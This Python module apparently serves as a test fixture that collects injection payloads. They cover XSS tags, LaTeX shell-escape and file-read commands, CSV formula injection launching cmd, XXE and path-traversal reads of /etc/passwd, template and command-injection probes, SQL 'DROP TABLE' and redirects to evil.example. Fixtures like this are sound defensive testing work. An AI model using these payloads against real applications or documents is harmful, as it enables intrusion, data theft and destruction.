"""Texts that would do something if anything took them for more than text; written by us."""

from __future__ import annotations

from itertools import product

MARK = "pwned"
"""What each payload would leave behind: a global of that name, an element with that id."""
_RUN = f"window.{MARK}=1"
HTML = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}><circle id={MARK} r=9></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe src=javascript:parent.{MARK}=1></iframe>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<a id={MARK} href=javascript:{_RUN}>go</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<style>@import 'x';*{{display:none}}</style><i id={MARK}>",
    f"<link rel=stylesheet href=//evil.example id={MARK}>",
    f"<meta http-equiv=refresh content='0;url=//evil.example' id={MARK}>",
    f"<base href=//evil.example/ id={MARK}>",
    f"<form action=//evil.example id={MARK}><button>",
    f"<object data=//evil.example id={MARK}></object>",
    f"<embed src=//evil.example id={MARK}>",
    f"<math><mi xlink:href=javascript:{_RUN} id={MARK}>x",
    f"<video><source onerror={_RUN}></video>",
    f"<table background=javascript:{_RUN} id={MARK}>",
    f"<template id={MARK}><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"<xmp></xmp><img src=1 onerror={_RUN}>",
    f"<!--><script>{_RUN}</script>-->",
    f"<![CDATA[><script>{_RUN}</script>]]>",
)
BREAKOUTS = ("", '">', "'>", "</script>", "</title></textarea>", "]]>", "-->", '\\">', "`>")
ESCAPED = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"＜script＞{_RUN}＜/script＞",
)
RST = (
    f".. raw:: html\n\n   <script>{_RUN}</script>",
    f"text\n\n.. raw:: html\n\n   <script>{_RUN}</script>",
    ".. include:: /etc/passwd",
    ".. literalinclude:: /etc/passwd",
    ".. csv-table::\n   :file: /etc/passwd",
    ".. image:: file:///etc/passwd",
    ":download:`x </etc/passwd>`",
    f":raw-html:`<script>{_RUN}</script>`",
    f"`go <javascript:{_RUN}>`_",
    f"`go <data:text/html,<script>{_RUN}</script>>`_",
    f"`go <vbscript:{MARK}>`__",
    f".. |x| raw:: html\n\n   <b id={MARK}>\n\n|x|",
    ".. role:: raw-html(raw)\n   :format: html",
    f".. _{MARK}: https://evil.example\n\n{MARK}_",
    ":math:`\\input{/etc/passwd}`",
    "`unclosed ``literal *emph **strong |sub [1]_",
    ".. meta::\n   :http-equiv=refresh: 0;url=//evil.example",
    ".. only:: html\n\n   x",
    ":doc:`/../../etc/passwd` :ref:`search` :any:`index`",
    "{{ config }} {% include '/etc/passwd' %} {{ ''.__class__ }}",
    f"```{{raw}} html\n<script>{_RUN}</script>\n```",
    "x\n=\n\nA title\n-------",
)
TYPST = (
    '#panic("pwned")',
    '#read("/etc/passwd")',
    '#import "@preview/evil:1.0.0"',
    '#include "/etc/passwd"',
    '#eval("1+1")',
    '"); #panic("pwned") //',
    ']#panic("pwned")[',
    "$ x $ *b* _e_ `c` @nobody <label> // gone /* gone",
    "#let x = 1; #x",
    "= Heading\n+ item\n/ term: x",
    '\\u{48} \\" \\# \\$',
    '#link("javascript:pwned")[x]',
    "#set text(size: 0pt)",
    "#show: it => []",
    "#raw(read(sys.inputs.x))",
)
LATEX = (
    "\\input{/etc/passwd}",
    "\\immediate\\write18{touch pwned}",
    "\\csname input\\endcsname{/etc/passwd}",
    "^^5cinput{/etc/passwd}",
    "\\end{document}\\pwned",
    "\\catcode`\\@=11 \\pwned",
    "} \\pwned {",
    "$ \\pwned $ & # % ~ _ ^ { }",
    "\\verb|x| \\begin{verbatim}",
    "\\href{javascript:pwned}{x}",
    "\\newcommand{\\x}{\\pwned}\\x",
    "]{}\\pwned",
)
CSV = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("//evil.example";"go")',
    " =1+1",
    '",=1+1,"',
    "\n=1+1",
    "＝1+1",
    "\t=1+1",
)
OTHER = (
    '","pwned":"1',
    '"}],"pwned":[{"x":"',
    "\u2028window.pwned=1\u2029",
    "}</style><script>window.pwned=1</script>",
    "}body{display:none}/*",
    "url(javascript:window.pwned=1)",
    "expression(window.pwned=1)",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?xml-stylesheet href='javascript:window.pwned=1'?>",
    "../../../../etc/passwd",
    "C:\\windows\\win.ini",
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "java\tscript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "file:///etc/passwd",
    "//evil.example/x",
    "{0.__class__.__init__.__globals__} %s%n%x {name!r:>9999}",
    "${7*7} $(id) `id` ; id | id && id",
    "BEGIN:VEVENT\r\nX-PWNED:1",
    "\N{RIGHT-TO-LEFT OVERRIDE}drow\N{POP DIRECTIONAL FORMATTING}",
    "zero\N{ZERO WIDTH SPACE}width\N{ZERO WIDTH JOINER}",
    "Z" + "\N{COMBINING ACUTE ACCENT}" * 60,
    "W" * 3000,
    "🏴‍☠️ 漢字 العربية עברית",
    "\ufdd0\ufffe\U0001ffff",
    "__proto__ constructor prototype",
    "NaN Infinity null undefined true",
    "'; DROP TABLE files; --",
    "\x1b]0;pwned\x07\x1b[31m",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(f"{before}{one}" for one, before in product(HTML[:10], BREAKOUTS)),
            *HTML, *ESCAPED, *RST, *TYPST, *LATEX, *CSV, *OTHER,
        )
    )
)  # fmt: skip
"""All of them; more than 200."""
